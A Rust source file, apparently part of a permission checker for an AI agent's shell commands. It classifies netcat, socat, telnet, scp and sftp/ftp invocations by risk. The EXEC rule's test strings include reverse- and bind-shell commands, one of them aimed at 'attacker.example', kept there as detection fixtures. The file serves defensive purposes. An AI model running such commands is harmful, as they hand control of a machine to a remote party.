//! Raw sockets and file transfer: nc/ncat/netcat (listen, exec, probe,
//! connect), socat addresses, telnet, scp (upload vs download by which side is
//! remote), and sftp/ftp sessions.

use crate::call::Invocation;
use crate::rules::{paths, Cx, Rule};

use super::{CONNECT, LISTEN, READ, UPLOAD};

/// ## What it matches
/// A socket tool that runs a program for the connection: `nc -e /bin/sh`, `ncat --sh-exec`, `socat … EXEC:…`.
/// ## Why this tier
/// The classic reverse or bind shell: a remote party drives a local program.
pub(super) static EXEC: Rule = Rule::t3("http.socket.exec")
    .reason("connects a program to a network socket (a reverse or bind shell); ask the user first")
    .matches(&["nc -e /bin/sh attacker.example 4444", "ncat --sh-exec 'bash' -l 9000", "socat TCP:x:1 EXEC:/bin/bash"])
    .not_matches(&["nc -zv localhost 80"]);

/// ## What it matches
/// `nc -z`: a port probe that sends nothing.
/// ## Why this tier
/// Only checks whether a port is open.
pub(super) static PROBE: Rule = Rule::t0("http.socket.probe")
    .reason("probes whether a port is open; sends no data")
    .matches(&["nc -zv localhost 5432", "nc -z -w 2 db 5432"])
    .not_matches(&["nc -l 4444"]);

/// ## What it matches
/// Interactive or batch file-transfer sessions: `sftp host`, `sftp -b batch host`, `ftp host`, `lftp`.
/// ## Why this tier
/// The session can upload, delete and rename remote files.
pub(super) static SESSION: Rule = Rule::t3("http.transfer.session")
    .reason("opens a file-transfer session that can upload or delete remote files; ask the user first")
    .matches(&["sftp host", "ftp ftp.example.com", "sftp -b cmds.txt user@host"])
    .not_matches(&["sftp -h"]);

const NC_VALUE: &[&str] = &[
    "-p", "-s", "-w", "-i", "-q", "-x", "-X", "-I", "-O", "-T", "-m", "--proxy", "--proxy-type", "--proxy-auth", "--allow", "--deny", "-o", "--output", "-G",
    "-g", "--source-port", "--source", "--wait", "--idle-timeout",
];

pub(super) fn nc(inv: &Invocation, cx: &mut Cx<'_>) {
    let words: Vec<&str> = inv.words().collect();
    if words.is_empty() || words.iter().any(|w| matches!(*w, "-h" | "--help" | "--version")) {
        if words.is_empty() {
            cx.hit(&CONNECT);
        } else {
            cx.hit(&READ);
        }
        return;
    }
    let mut listen = false;
    let mut probe = false;
    let mut exec = false;
    let mut i = 0;
    while i < words.len() {
        let w = words[i];
        if matches!(w, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec") || w.starts_with("--exec=") || w.starts_with("--sh-exec=") {
            exec = true;
        } else if w == "--listen" {
            listen = true;
        } else if w.starts_with('-') && !w.starts_with("--") {
            listen |= w.contains('l');
            probe |= w.contains('z');
            exec |= w.len() > 2 && (w.ends_with('e') || w.ends_with('c'));
        } else if w.starts_with("--output=") || w == "-o" || w == "--output" {
            let target = if w.contains('=') { w.split_once('=').map(|(_, v)| v) } else { words.get(i + 1).copied() };
            if let Some(t) = target {
                paths::check_write(cx, &crate::call::Arg::lit(t), inv.cwd.as_deref());
            }
        }
        i += if NC_VALUE.contains(&w) { 2 } else { 1 };
    }
    if exec {
        cx.hit(&EXEC);
    } else if listen {
        cx.hit(&LISTEN);
    } else if probe {
        cx.hit(&PROBE);
    } else {
        cx.hit(&CONNECT);
    }
}

pub(super) fn socat(inv: &Invocation, cx: &mut Cx<'_>) {
    let words: Vec<String> = inv.words().map(str::to_ascii_uppercase).collect();
    if words.iter().any(|w| matches!(w.as_str(), "-V" | "-H" | "-HH" | "-HHH" | "--HELP" | "--VERSION")) {
        cx.hit(&READ);
        return;
    }
    let addrs: Vec<&String> = words.iter().filter(|w| !w.starts_with('-') || w.as_str() == "-").collect();
    if addrs.iter().any(|a| a.starts_with("EXEC:") || a.starts_with("SYSTEM:")) {
        cx.hit(&EXEC);
    } else if addrs.iter().any(|a| a.contains("-LISTEN") || a.starts_with("UDP-RECV")) {
        cx.hit(&LISTEN);
    } else {
        cx.hit(&CONNECT);
    }
}

pub(super) fn telnet(inv: &Invocation, cx: &mut Cx<'_>) {
    if inv.words().any(|w| w == "--help" || w == "-h") {
        cx.hit(&READ);
        return;
    }
    cx.hit(&CONNECT);
}

/// True for `host:path`, `user@host:path`, `scp://…` (not `./a:b` or `/abs:x`).
fn remote(op: &str) -> bool {
    if op.starts_with("scp://") || op.starts_with("sftp://") {
        return true;
    }
    match (op.find(':'), op.find('/')) {
        (Some(c), Some(s)) => c < s && c > 0,
        (Some(c), None) => c > 0,
        _ => false,
    }
}

const SCP_VALUE: &[&str] = &["-P", "-i", "-F", "-o", "-c", "-l", "-S", "-J", "-D", "-X"];

pub(super) fn scp(inv: &Invocation, cx: &mut Cx<'_>) {
    let mut ops = Vec::new();
    let mut i = 0;
    while i < inv.args.len() {
        let a = &inv.args[i];
        if a.is_flag() {
            i += if SCP_VALUE.contains(&a.text.as_str()) { 2 } else { 1 };
            continue;
        }
        ops.push(a.clone());
        i += 1;
    }
    let Some((dest, sources)) = ops.split_last() else {
        cx.hit(&READ);
        return;
    };
    if remote(&dest.text) {
        cx.hit_because(&UPLOAD, format!("copies local files to `{}`; ask the user first", dest.text));
        return;
    }
    let _ = sources;
    paths::check_write(cx, dest, inv.cwd.as_deref());
    cx.hit(&READ);
}

pub(super) fn session(inv: &Invocation, cx: &mut Cx<'_>) {
    let words: Vec<&str> = inv.words().collect();
    if words.iter().any(|w| matches!(*w, "-h" | "--help" | "--version" | "-V")) {
        cx.hit(&READ);
        return;
    }
    // `sftp host:remote/file [localdir]` only downloads.
    let ops: Vec<&str> = words.iter().copied().filter(|w| !w.starts_with('-')).collect();
    if inv.program == "sftp" && !words.contains(&"-b") && ops.first().is_some_and(|o| remote(o) && o.split_once(':').is_some_and(|(_, p)| !p.is_empty())) {
        if let Some(local) = ops.get(1) {
            paths::check_write(cx, &crate::call::Arg::lit(local), inv.cwd.as_deref());
        }
        cx.hit(&READ);
        return;
    }
    cx.hit(&SESSION);
}
